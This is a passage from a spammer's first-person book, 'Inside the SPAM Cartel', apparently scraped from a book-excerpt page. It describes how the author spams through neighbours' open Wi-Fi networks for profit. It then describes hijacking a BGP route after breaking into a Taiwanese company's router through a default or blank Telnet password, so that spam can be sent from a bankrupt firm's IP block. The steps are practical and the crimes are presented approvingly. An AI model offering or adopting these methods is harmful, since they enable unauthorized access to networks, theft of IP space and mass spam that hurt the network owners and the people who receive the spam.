Wireless SpammingA short time ago, a friend of mine,“Andrew,” dropped by and we tried a wireless spamming experiment of our own. Andrew is one of the few people who does not mind my spamming activity, and often asks me howspam runs are going. He also helps me with spam, occasionally showing me sites I should promote or products I should sell.

During his visit, we began discussing new ways of sending spam. I had expressed interest in trying wireless spamming, since I live in the city and there are many apartment buildings around me.

It seems that not many people know about wireless security because there are at least 10 fully open wireless networks within 1 km of my apartment. Andrew agreed that we should try wireless spamming, so I packed up my laptop fully set up to spam, with a million e-mail addresses and a wireless scanning application (NetStumbler) ready for use.

After walking for 5 minutes, we were among a huge apartment building complex. I checked my laptop to find it had already associated to an open access point and there were four others available for connecting. The Secure Set Identifier (SSID) that the access point was broadcasting was “LINKSYS-01,” obviously some home users Linksys DSL router that came complete with wireless access. The feature had been turned on but not set up or secured. After checking ipconfig, I found that I had an IP, default gateway, and full Internet access. Not only was this access point insecure, but it had dynamic host control protocol (DHCP) enabled. I started DarkMailer.

After an hour of sending spam, we decided to move on. Although the spam delivery rate was 80 percent successful, I suspected that the DSL connection was soon to be blacklisted by at least one RBL; usually half a million addresses is enough to blacklist a host. We found another open wireless network coming from a small shopping complex. Once again, we sat down and resumed spamming. By the end of the night, our spam run had been very successful and we decided to split the profits (each making around $300.00).

Wireless spam has a lot of potential.It’s easier and more direct than using any open proxy server or SMTP relay. Nothing can detect that the host is acting as an open wireless network, so RBLstake much longer to blacklist it. It also seems that there is an abundance of insecure wireless access points.

The only real down side to using wireless technology to send spam is that you have to be in physical range of the access point. Wireless spamming becomes more personal if it is no longer just an IP address of a proxy server but has a real address with real people inside.

BGP Hijacking and Stealing IP blocks

At a high-level, the Internet is composed of an intricate Web made up of routers and routes. Like the mesh of a spider Web, these routes ensure you can talk to every host/network on the Internet, leaving no host segregated from the Web. These routers advertise what IP addresses they are responsible for, allowing the world to find a path to their hosts quickly. They also accept the routing tables of the routersnext to them (their peers) so that they can find out what direction they should send their various traffic. This methodology is how the Internet was given its nickname the “Web.”

Each “branch” of the Web is the space a router is responsible for. It will tell other routers that it owns this space and any traffic destined for it should be sent to this router. Routers share this knowledge with each other, giving incremental updates on new routes they have learned. This voluntary ownership of space is at the core of router security.

BGP is the routing protocol that each router uses to talk to each other. This protocol allows each router to share route updates with the routers closest to it (its neighbors or peers).

For example, wishes to expand their network the Internet Corporation for Assigned Names and Numbers (ICANN) has given them another 20 IP address to use. However, no one on the Internet knows how to get to these new IP addresses since they are currently unroutable, so sends a route update to their neighboring networks saying “Hey is now found at my router: AS 1000.” Each BGP router is given an Autonomous Systems (AS) number and each AS is unique and directly identifies the router by name.

The neighboring routers can then pass information on how to contact to their neighbors, and those neighbors will pass the information on, and so on. After five to ten minutes, the entire Internet will know that any traffic going to should go to AS1000 and its location is “over there.”

A spammer’s main objective when sending spam is to impersonate someone else. A spammer never wants to reveal their identity. Therefore, it is only natural that spammers wouldlearn to manipulate the core fabric of the Internet to impersonate other networks, possibly the most technical and hands-on spamming technique used. Spammers can now hijack IP addresses owned by a different network, company, or country, and can fully impersonate that they are that network. This technique is known as BGP Route Injection or AS Hijacking.

The technique focuses on what happens when wants to announce that it is now responsible for net block Routers have no idea if should really have this network space. Nevertheless, from the design of the Internet they will trust that router AS1000 should really have AS1000 could broadcast saying that it has Microsoft’s address space, and anyone locally to that router would think was local. Here is a simple example of how I would use BGP hijacking to send spam.

First, I need to find an insecure router, not just any router though. I need one that has routing neighbors and isactively broadcasting its AS number to those neighbors. I will scan large subnets looking for routers with Telnet installed and testing each to see if the admin password is “cisco” or “blank.” Large majorities of routers still have this glaringly obvious security flaw enabled, but who am I to complain? This is going to send lots of spam for me. After four hours of scanning and testing, I find a router in Taiwan located at a small electronics company. Luckily for me this router has no admin password set. It also seems to be the primary Internet-facing router the company uses. It is broadcasting an AS (AS1789) and is responsible for the 254 IP addresses the company uses.

Looking around their network, I notice similar (obvious) flaws. Their windows servers arecrawling with worms. Additionally, many servers have blank administrator passwords.

start sidebar
Tricks of the Trade…Insecure Hosts

Lacking security seems to be very common in most of Asia and was the reason my scan started there. Statistics say Asian countries are responsible for sending up to 80 percent of all spam in the world. That is an enormous amount of spam. The majority of it stems from the massive uptake of broadband technologies in the home. It is common for most houses to have 1 meg to 10 meg connections; with this comes swarms of insecure hosts.

end sidebar

The next step in my quest is to find a network to hijack by making my Taiwanese router responsible for its IP space.

start sidebar
Tricks of theTrade…Unused IP Space

A good way to find unused IP space is to find recently closed or bought-out companies. When a company goes bankrupt, the last thing they think about doing is closing the IP lease they hold with APNIC. Because of this, there are millions of currently active IP’s on the Internet belonging to companies that went out of business years ago. In addition, existing routing tables mean that a net block could still be actively pointing to a router that physically does not exist and is currently on sale on

end sidebar

All we have to do is find one such network and make the router announce, “I now am responsible for x.x.x.xnetwork.” As the other router really does not exist, there should be no problems because only onehost is then advertising that network. After a bit of reading, I find that went bankrupt six months ago. They went into liquidation and the CEO ran off with large amounts of investor money.

A “whois” on their Web server’s last known IP address shows that they used to own 216.24.X.0-XXX.

[root@spammerx spam]# whois 216.24.2.X   [Querying] [] inetnum: – 216.24.X.XXX   netname:      NOTCOOL   descr:        Not So cool   descr:        Po Box 101   descr:        BrokeVille   country:      USA   admin-c:      AW1-USA   tech-c:       AW1-USA   notify:   mnt-by:       ARIN-HM   changed:   status:       ALLOCATED PORTABLE

Their Web site is down, and all hosts in their network seem to be unreachable. My guess is they are all gone and now all the servers are for sale somewhere on The IP address space looks like prime turf though. All I have to do now is POST a route in Taiwan on my compromised router stating that net block 216.24.X.0-XXX is now located at AS1789. A few Cisco configuration lines later, I can see that my peering routers have accepted my BGP route and they are passing it to their upstream routers. After a few minutes, the routeshould be finished and any data destined for 216.24.X.0-XXX will come to me.

Now, using one of the windows servers (with a blank administrator password) I make an alias IP address on the network card. The IP will be in the 216.24.X.0 network block. will now be alive again; however, this time it will be located in Taiwan. Twenty minutes later, my new network is routable from every part of the Internet and my hijack is complete. Time to spam! Using each IP in the 216.24.X.0-XXX range until it is blacklisted, I can send millions of spam messages and potentially use the entire 254 IP addresses allocated. Once finished, I stop advertising my route for’s IP space and upstream routers remove the route from their routing table, making the network once again unreachable.

Notes from the Underground…

BGP Hijacking

Although rather complex and requiring a decent amount of knowledge in both routers and router protocols, BGP hijacking is by far the most effective method of sending spam. The majority of spamming companies use this method to send their spam, as the spamming freedom it offers is unparallel to any other method. It is hard to trace and almost impossible to stop with modern technology.

Currently, little can stop IP space hijacking. There is a new protocol gaining popularity called Secure BGP (S-BGP). Requiring cryptographic key exchange before a new route is accepted, S-BGP hopes to make router technology secure. Currently, though, it is only used in major peering points such as MAE-WEST and MAE-EAST and does not have large uptake due to the extra hardware and costs associated with thecryptography hardware required.< Day Day Up >

Inside the SPAM Cartel(c) Trade Secrets From the Dark Side
Inside the SPAM Cartel: By Spammer-X
ISBN: 1932266860
EAN: 2147483647
Year: 2004
Pages: 79Similar book on Amazon ©2008-2017.
If you may any questions please contact us: